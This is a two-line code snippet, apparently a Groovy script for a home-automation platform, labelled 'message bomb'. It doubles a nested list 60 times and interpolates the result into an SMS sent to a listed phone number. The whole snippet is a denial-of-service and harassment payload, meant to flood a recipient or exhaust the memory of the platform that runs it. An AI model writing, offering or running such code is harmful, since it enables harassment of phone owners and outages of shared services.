// message bomb
def a = ['x']; 60.times { a = [a, a] }; sms to: '+13055550123', message: "${a}"
